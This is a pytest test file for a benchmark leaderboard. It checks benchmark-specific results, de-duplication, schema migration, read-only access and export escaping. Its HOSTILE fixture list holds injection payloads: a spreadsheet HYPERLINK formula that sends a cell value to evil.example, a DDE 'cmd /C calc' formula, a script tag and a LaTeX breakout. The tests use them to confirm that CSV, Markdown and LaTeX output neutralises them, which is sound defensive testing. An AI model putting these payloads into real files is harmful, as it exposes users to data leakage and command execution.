"""Trustworthy results on the board (issue 13, cases 2, 5, 12, 13): every result names its benchmark, a board
shows one benchmark, de-duplication spares rejected submissions, exports escape for their format, and read-only
commands open the store read-only. Store tests run on SQLite and, with NERFSEG_TEST_PG_URL, on PostgreSQL."""

from __future__ import annotations

import csv
import io
import os
import shutil
import sqlite3
import threading
import time
from pathlib import Path

import pytest
import sqlalchemy as sa
from click.testing import CliRunner

from nerfseg.leaderboard.store import (
    LATEST_SCHEMA_VERSION,
    tables_v1,
    db_url as to_db_url,
    MIGRATIONS,
    UNRECORDED,
    VERSION_TABLE,
    ResultsStore,
    StoreError,
    make_engine,
)
from nerfseg.leaderboard.tables import LeaderboardEntry, build_table, csv_cell, latex_escape, md_escape, render
from nerfseg.leaderboard.worker import Worker
from nerfseg.cli import cli
from nerfseg.identity import benchmark_identity
from tests.evaluation.fixtures import make_tiny_benchmark
from tests.leaderboard.fake_eval import evaluate as fake_evaluate
from tests.leaderboard.helpers import FAKE_EVALUATOR, make_variant, scores

FP_A, FP_B = "a" * 64, "b" * 64


def _run(*args: object) -> object:
    return CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False)


def _report(pq: float, benchmark: str | None = None, name: str = "bench") -> dict:
    report = {"protocol": "nerfseg-v1", "protocol_version": "1", "spec_version": "1",
              "summary": {"miou": 0.5, "pq_things": pq}, "counts": {"num_scenes": 1, "num_frames": 2}}
    if benchmark:
        report["benchmark"] = {"name": name, "fingerprint": benchmark}
    return report


def _open(url: str, tmp_path: Path) -> ResultsStore:
    return ResultsStore(url, tmp_path / "submissions")


# ---------------------------------------------------------------------------------------------
# case 2: a result records its benchmark


def test_same_files_against_two_benchmarks_are_two_records(database: str, tmp_path: Path) -> None:
    with _open(database, tmp_path) as store:
        team, _ = store.add_team("t")
        common = dict(team_id=team.id, method="M", content_hash="h", size_bytes=1, filename=None, stored_path=None,
                      split="test", protocol="nerfseg-v1")
        a, created_a = store.record_finished(**common, report=_report(0.4, FP_A, "demo A"))
        b, created_b = store.record_finished(**common, report=_report(0.2, FP_B, "demo B"))
        assert created_a and created_b and a.id != b.id
        assert (a.benchmark, b.benchmark, b.benchmark_name) == (FP_A, FP_B, "demo B")
        again, created = store.record_finished(**common, report=_report(0.4, FP_A))
        assert not created and again.id == a.id  # the same content on the same benchmark: recorded once
        # one board per benchmark
        assert [e.values["pq_things"] for e in store.leaderboard(benchmark=FP_A)] == [0.4]
        assert [e.values["pq_things"] for e in store.leaderboard(benchmark=FP_B)] == [0.2]
        assert store.resolve_benchmark("b" * 8) == FP_B and store.resolve_benchmark("demo A") == FP_A
        with pytest.raises(StoreError, match="unknown"):
            store.resolve_benchmark("c" * 8)
        # the benchmark a report names must be the one the submission was queued for
        with pytest.raises(StoreError, match="another benchmark"):
            store.record_finished(**{**common, "content_hash": "h2"}, report=_report(0.1, FP_B), benchmark=FP_A)


def test_a_worker_evaluates_only_its_benchmark(database: str, tmp_path: Path) -> None:
    with _open(database, tmp_path) as store:
        team, _ = store.add_team("t")
        sub, _ = store.create_submission(team_id=team.id, method="M", content_hash="h", size_bytes=1, filename=None,
                                         stored_path=None, benchmark=FP_A, benchmark_name="demo A")
        assert store.claim_next("w-b", benchmark=FP_B) is None
        claimed = store.claim_next("w-a", benchmark=FP_A)
        assert claimed is not None and claimed.id == sub.id
        with pytest.raises(StoreError, match="another benchmark"):  # a report of other GT is never filed here
            store.complete(sub.id, "w-a", _report(0.3, FP_B))
        assert store.complete(sub.id, "w-a", _report(0.3, FP_A))
        assert store.get_submission(sub.id).to_dict()["benchmark"] == {"name": "bench", "fingerprint": FP_A}


# ---------------------------------------------------------------------------------------------
# case 5: de-duplication only over live submissions


def test_rejected_or_internally_failed_submission_can_be_sent_again(database: str, tmp_path: Path,
                                                                    lb_benchmark: Path, demo: dict[str, Path]) -> None:
    fp = benchmark_identity(lb_benchmark).fingerprint
    stored = tmp_path / "submissions" / "x.zip"
    stored.parent.mkdir(parents=True)
    shutil.copy(demo["alpha"], stored)
    fail = {"first": True}

    def flaky(data_root, path, **kw):  # noqa: ANN001, ANN003, ANN202 - an evaluator broken once (server side)
        if fail.pop("first", False):
            raise RuntimeError("disk full")
        return fake_evaluate(data_root, path, **kw)

    with _open(database, tmp_path) as store:
        team, _ = store.add_team("t")
        worker = Worker(store, lb_benchmark, flaky, lease_seconds=30)
        args = dict(team_id=team.id, method="Alpha", content_hash="same", size_bytes=1, filename="x.zip",
                    stored_path="x.zip", benchmark=fp)
        first, _ = store.create_submission(**args)
        assert worker.run_once().id == first.id
        assert store.get_submission(first.id).status == "rejected"
        assert "internal evaluation error" in store.get_submission(first.id).reasons[0]
        second, created = store.create_submission(**args)
        assert created and second.id != first.id  # not "already recorded": it is evaluated again
        # while it is queued, the same content is a duplicate (it will be evaluated once)
        assert store.create_submission(**args) == (second, False)
        worker.run_once()
        assert store.get_submission(second.id).status == "evaluated"
        assert store.create_submission(**args)[1] is False
        assert store.check_consistency() == []


def test_rejected_then_fixed_folder_is_evaluated(tmp_path: Path, lb_benchmark: Path, lb_gt: Path) -> None:
    db = tmp_path / "lb.db"
    folder = make_variant(lb_gt, tmp_path / "mine", "Mine", scores(0.3, 0.4), archive=None)
    png = sorted((folder / "tiny_000" / "panoptic").glob("*.png"))[0]
    saved = png.read_bytes()
    png.unlink()
    common = ("--method", "Mine", "--data", lb_benchmark, "--db", db, "--evaluator", FAKE_EVALUATOR)
    assert _run("submit", folder, *common).exit_code == 1
    again = _run("submit", folder, *common)  # the same broken content: checked again, not "already recorded"
    assert again.exit_code == 1 and "already recorded" not in again.stdout
    png.write_bytes(saved)
    fixed = _run("submit", folder, *common)
    assert fixed.exit_code == 0 and "evaluated: submission #3" in fixed.stdout, fixed.stdout + fixed.stderr
    assert "already recorded" in _run("submit", folder, *common).stdout
    # the same files against another benchmark: another record
    other = make_tiny_benchmark(tmp_path / "other", seed=1)
    res = _run("submit", folder, "--method", "Mine", "--data", other, "--db", db, "--evaluator", FAKE_EVALUATOR)
    assert res.exit_code == 0 and "evaluated: submission #4" in res.stdout, res.stdout + res.stderr
    with ResultsStore(db) as store:
        subs = store.list_submissions()
    assert [s.status for s in subs] == ["rejected", "rejected", "evaluated", "evaluated"]
    assert subs[2].benchmark == benchmark_identity(lb_benchmark).fingerprint != subs[3].benchmark
    # `show` shows one benchmark at a time, names it, and lists the others
    shown = _run("leaderboard", "show", "--db", db, "--data", lb_benchmark)
    assert benchmark_identity(lb_benchmark).short in shown.stdout and "other benchmarks" in shown.stderr
    assert shown.stdout.count("| Mine |") == 1


# ---------------------------------------------------------------------------------------------
# migration of a database written before benchmark identities


def _write_v2_database(url: str) -> dict[str, int]:
    """A database at schema version 2 holding a team, an evaluated submission with results and a reported row."""
    engine = make_engine(to_db_url(url))
    t = tables_v1(sa.MetaData())  # the frozen v1 tables: what such a database holds
    with engine.begin() as conn:
        VERSION_TABLE.create(conn)
        for step in MIGRATIONS[:2]:
            step.apply(conn)
            conn.execute(sa.insert(VERSION_TABLE).values(version=step.version, description="old", applied_at=0.0))
        team = conn.execute(sa.insert(t["teams"]).values(name="old", token_hash="x", created_at=0.0)
                            .returning(t["teams"].c.id)).scalar_one()
        method = conn.execute(sa.insert(t["methods"]).values(team_id=team, name="OldNet", uses_gt_masks=False,
                                                             semantic_only=False, created_at=0.0, updated_at=0.0)
                              .returning(t["methods"].c.id)).scalar_one()
        sub = conn.execute(sa.insert(t["submissions"]).values(
            key="k1", team_id=team, method_id=method, content_hash="h", size_bytes=1, split="test",
            protocol="nerfseg-v1", status="evaluated", attempts=1, created_at=0.0, finished_at=5.0, updated_at=5.0)
            .returning(t["submissions"].c.id)).scalar_one()
        conn.execute(sa.insert(t["results"]).values(submission_id=sub, protocol="nerfseg-v1", report_json="{}",
                                                    created_at=5.0))
        conn.execute(sa.insert(t["result_summary"]).values(submission_id=sub, metric="pq_things", value=0.25))
        conn.execute(sa.insert(t["reported_results"]).values(method="Paper", source="Table 1", protocol="nerfseg-v1",
                                                             split="test", semantic_only=False, uses_gt_masks=False,
                                                             created_at=0.0))
    engine.dispose()
    return {"team": int(team), "submission": int(sub)}


def test_a_version_2_database_is_migrated_with_its_data(database: str, tmp_path: Path) -> None:
    ids = _write_v2_database(database)
    if "://" not in database:  # read-only commands do not migrate: they say what to do
        with pytest.raises(StoreError, match="needs migrating"):
            ResultsStore(database, read_only=True)
    with _open(database, tmp_path) as store:
        assert store.schema_version() == LATEST_SCHEMA_VERSION
        old = store.get_submission(ids["submission"])
        assert old.status == "evaluated" and old.benchmark is None and old.method == "OldNet"
        assert [e.method for e in store.leaderboard(benchmark=UNRECORDED) if not e.reported] == ["OldNet"]
        assert store.resolve_benchmark(None) == UNRECORDED
        # the old unique constraint is gone: the same content for a named benchmark is a new record
        new, created = store.record_finished(team_id=ids["team"], method="OldNet", content_hash="h", size_bytes=1, filename=None,
                                             stored_path=None, split="test", protocol="nerfseg-v1",
                                             report=_report(0.5, FP_A))
        assert created and new.benchmark == FP_A and store.check_consistency() == []
        assert store.resolve_benchmark(None) == FP_A  # the most recently used benchmark is the default board
        reported = [e for e in store.leaderboard(benchmark=FP_A) if e.reported]
        assert [(e.method, e.dataset) for e in reported] == [("Paper", None)]
        if store.engine.dialect.name == "sqlite":
            with store.engine.connect() as conn:
                assert conn.exec_driver_sql("PRAGMA foreign_key_check").all() == []
                assert conn.exec_driver_sql("PRAGMA foreign_keys").scalar() == 1
        indexes = {ix["name"] for ix in sa.inspect(store.engine).get_indexes("submissions")}
        assert {"uq_submissions_live_content", "ix_submissions_status_created"} <= indexes


# ---------------------------------------------------------------------------------------------
# case 13: read-only commands


def test_show_reads_without_a_write_lock_and_never_writes(tmp_path: Path) -> None:
    db = tmp_path / "lb.db"
    with ResultsStore(db) as store:
        store.add_reported("Paper", "Table 1", {"miou": 0.43}, dataset="3D-FRONT")
    # a writer holds the write lock: `show` must neither wait 60 s for it nor fail
    writer = sqlite3.connect(db, isolation_level=None, timeout=1)
    writer.execute("BEGIN IMMEDIATE")
    writer.execute("INSERT INTO teams (name, token_hash, created_at) VALUES ('w', 'w', 0)")
    try:
        t0 = time.monotonic()
        res = _run("leaderboard", "show", "--db", db)
        assert res.exit_code == 0 and "Paper" in res.stdout and time.monotonic() - t0 < 20
    finally:
        writer.execute("ROLLBACK")
        writer.close()
    with ResultsStore(db, read_only=True) as ro:
        assert ro.schema_version() == LATEST_SCHEMA_VERSION
        with pytest.raises(sa.exc.OperationalError, match="readonly"), ro.engine.begin() as conn:
            conn.exec_driver_sql("INSERT INTO teams (name, token_hash, created_at) VALUES ('x', 'x', 0)")
    os.chmod(db, 0o444)
    try:
        res = _run("leaderboard", "show", "--db", db, "--format", "csv")
        assert res.exit_code == 0 and "Paper" in res.stdout
    finally:
        os.chmod(db, 0o644)


def test_show_and_migrate_commands_on_an_old_database(tmp_path: Path) -> None:
    db = tmp_path / "lb.db"
    _write_v2_database(str(db))
    res = _run("leaderboard", "show", "--db", db)
    assert res.exit_code == 1 and "needs migrating" in res.stderr and "leaderboard migrate" in res.stderr
    assert "Traceback" not in res.stderr
    res = _run("leaderboard", "migrate", "--db", db)
    assert res.exit_code == 0 and f"schema version {LATEST_SCHEMA_VERSION}" in res.stdout
    res = _run("leaderboard", "show", "--db", db, "--benchmark", UNRECORDED)
    assert res.exit_code == 0 and "| OldNet | - | **25.0** |" in res.stdout and "benchmark not recorded" in res.stdout
    assert "| Paper† | not stated |" in res.stdout


def test_concurrent_first_start_migrates_once(tmp_path: Path) -> None:
    db = tmp_path / "lb.db"
    _write_v2_database(str(db))
    errors: list[BaseException] = []

    def open_store() -> None:
        try:
            ResultsStore(db).close()
        except BaseException as exc:  # noqa: BLE001 - collected and asserted below
            errors.append(exc)

    threads = [threading.Thread(target=open_store) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    with ResultsStore(db) as store:
        with store.engine.connect() as conn:
            assert conn.execute(sa.select(VERSION_TABLE.c.version)).scalars().all() == [1, 2, 3]


# ---------------------------------------------------------------------------------------------
# case 12: exports escape for their format


HOSTILE = [
    LeaderboardEntry('=HYPERLINK("http://evil.example/?"&A1,"click")', {"miou": 0.5, "pq_things": 0.4}, team="+team"),
    LeaderboardEntry("a | b <script>alert(1)</script>\nsecond line", {"miou": 0.4, "pq_things": 0.3}, team="@t"),
    LeaderboardEntry("-1+2 & 50% $x$ \\end{tabular}\r\n\n", {"miou": 0.3, "pq_things": 0.2}, team="x"),
    LeaderboardEntry("Paper", {"miou": 0.43}, reported=True, source="=cmd|' /C calc'!A0", dataset="3D-FRONT\n|x"),
]


def test_csv_neutralises_formulas() -> None:
    rows = list(csv.reader(io.StringIO(render([build_table(HOSTILE, "nerfseg-v1", "test")], "csv"))))
    cells = [c for row in rows[1:] for c in row]
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells if c != "-")
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells and "'+team" in cells and "'@t" in cells
    assert "'=cmd|' /C calc'!A0" in cells and "'-1+2 & 50% $x$ \\end{tabular}\r\n\n" in cells
    assert csv_cell("plain") == "plain" and csv_cell(None) == ""


def test_markdown_escapes_pipes_html_and_newlines() -> None:
    md = render([build_table(HOSTILE, "nerfseg-v1", "test")], "md")
    for block in md.split("\n\n"):  # each table: every line has as many cells as its header
        lines = [line for line in block.splitlines() if line.startswith("|")]
        assert len({line.replace("\\|", "").count("|") for line in lines}) <= 1, block
    assert "<script>" not in md and "&lt;script&gt;" in md and "a \\| b" in md
    assert not any(line.startswith(("second line", "|x")) for line in md.splitlines())
    assert md_escape("x &amp; y & z") == "x &amp;amp; y & z"


def test_latex_keeps_every_name_on_one_line() -> None:
    tex = render([build_table(HOSTILE, "nerfseg-v1", "test")], "latex")
    body = tex[tex.index(r"\midrule"):tex.index(r"\bottomrule")]
    assert all(line.endswith(r"\\") for line in body.splitlines() if line.strip() and line != r"\midrule")
    assert r"\end{tabular}" not in body and r"\textbackslash{}end\{tabular\}" in body
    assert latex_escape("a\n\nb|c") == r"a  b\textbar{}c"


# ---------------------------------------------------------------------------------------------
# the web page: one benchmark, named; other benchmarks' results and papers' rows never ranked with it


def test_server_shows_its_benchmark_only(tmp_path: Path, lb_benchmark: Path, demo: dict[str, Path]) -> None:
    pytest.importorskip("fastapi", reason="the server extra (fastapi) is not installed")
    pytest.importorskip("httpx", reason="the server extra (httpx) is not installed")
    from fastapi.testclient import TestClient

    from nerfseg.leaderboard.server import ServerSettings, create_app

    bench = benchmark_identity(lb_benchmark)
    with ResultsStore(tmp_path / "lb.db") as store:
        team, token = store.add_team("red")
        store.add_reported("Instance-NeRF", "paper, Table 1", {"miou": 0.43, "pq_things": 0.324}, dataset="3D-FRONT")
        store.record_finished(team_id=team.id, method="Elsewhere", content_hash="e", size_bytes=1, filename=None,
                              stored_path=None, split="test", protocol="nerfseg-v1", report=_report(0.9, FP_A, "other"))
        app = create_app(store, ServerSettings(data_root=lb_benchmark, worker="none"), evaluate=fake_evaluate)
        with TestClient(app) as client, open(demo["alpha"], "rb") as f:
            res = client.post("/api/submissions", headers={"Authorization": f"Bearer {token}"},
                              data={"method": "Alpha"}, files={"file": ("alpha.zip", f, "application/zip")})
            assert res.status_code == 202 and res.json()["submission"]["benchmark"]["fingerprint"] == bench.fingerprint
            Worker(store, lb_benchmark, fake_evaluate).run(exit_when_idle=0.0)
            page = client.get("/").text
            table = client.get("/api/leaderboard").json()
        main = page[page.index('id="leaderboard"'):page.index('id="leaderboard-reported"')]
        assert bench.short in main and 'data-method="Alpha"' in main and "Elsewhere" not in page
        assert 'data-method="Instance-NeRF"' in page[page.index('id="leaderboard-reported"'):]
        assert [r["method"] for r in table["rows"]] == ["Alpha"] and table["benchmark"] == bench.label
        assert [r["method"] for r in table["reported_rows"]] == ["Instance-NeRF"]
